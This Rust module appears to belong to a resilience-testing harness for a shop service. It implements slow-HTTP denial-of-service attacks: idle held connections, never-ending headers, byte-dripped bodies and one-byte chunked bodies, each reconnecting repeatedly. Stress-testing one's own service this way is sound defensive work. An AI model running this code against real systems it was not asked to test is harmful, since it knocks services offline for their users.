//! Connections that are held open and say too little.

use super::Attack;
use crate::attack::target::attacker;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Before a connection that was refused or closed is made again.
const PAUSE: Duration = Duration::from_millis(250);
/// Between one byte and the next.
const DRIP: Duration = Duration::from_millis(500);
/// For what is sent at the beginning; who does not take it in this time does not read.
const TO_SEND: Duration = Duration::from_secs(5);
/// Bytes of a body that come at once.
const AT_ONCE: usize = 120_000;
/// What takes the largest bodies of strangers. There need not be such a cart.
const LINES: &str = "POST /v1/carts/01900000-0000-7000-8000-000000000000/lines HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\n";
/// Chunks of a body, of one byte each.
const CHUNKS: usize = 60_000;

/// What is said over a connection.
struct Says {
    first: Vec<u8>,
    then: Option<u8>,
}

/// One connection over which nothing is said, made again whenever it is closed.
pub async fn silent(attack: Attack, _: usize) {
    hold(&attack, &Says { first: vec![], then: None }).await;
}

/// One request whose head never ends.
pub async fn slow_head(attack: Attack, _: usize) {
    let first = b"POST /v1/carts HTTP/1.1\r\nhost: shop\r\nx-slow: ".to_vec();
    hold(&attack, &Says { first, then: Some(b'x') }).await;
}

/// One request whose body never ends.
pub async fn slow_body(attack: Attack, _: usize) {
    let head = format!("{LINES}content-length: 130000\r\n\r\n");
    let mut first = head.as_bytes().to_vec();
    first.extend_from_slice(b"{\"lines\":\"");
    first.resize(first.len() + AT_ONCE, b'x');
    hold(&attack, &Says { first, then: Some(b'x') }).await;
}

/// One request whose body comes in chunks of a byte, as fast as they are taken.
pub async fn tiny_chunks(attack: Attack, _: usize) {
    let head = format!("{LINES}transfer-encoding: chunked\r\n\r\n");
    let mut first = head.as_bytes().to_vec();
    first.extend(b"1\r\n \r\n".repeat(CHUNKS));
    first.extend_from_slice(b"0\r\n\r\n");
    hold(&attack, &Says { first, then: None }).await;
}

async fn hold(attack: &Attack, says: &Says) {
    while !attack.stop.is_cancelled() {
        attack.tally.tried();
        match attack.target.connect(attacker(0)).await {
            Ok(stream) => {
                let _open = attack.tally.open();
                // What comes to an end was ended by the service, whether with an answer or without one.
                if attack.stop.run_until_cancelled(until_closed(stream, says)).await.is_some() {
                    attack.tally.closed();
                }
            }
            Err(_) => attack.tally.refused(),
        }
        attack.pause(PAUSE).await;
    }
}

async fn until_closed(mut stream: TcpStream, says: &Says) {
    let sent = tokio::time::timeout(TO_SEND, stream.write_all(&says.first)).await;
    if matches!(sent, Ok(Err(_))) {
        return;
    }
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => if is_end(&read) { return },
            () = tokio::time::sleep(DRIP), if says.then.is_some() => {
                let bytes: Vec<u8> = says.then.into_iter().collect();
                // A full buffer is not the end: who does not read may still close.
                if stream.try_write(&bytes).is_err_and(|error| error.kind() != io::ErrorKind::WouldBlock) {
                    return;
                }
            }
        }
    }
}

fn is_end(read: &io::Result<usize>) -> bool {
    !matches!(read, Ok(1..))
}
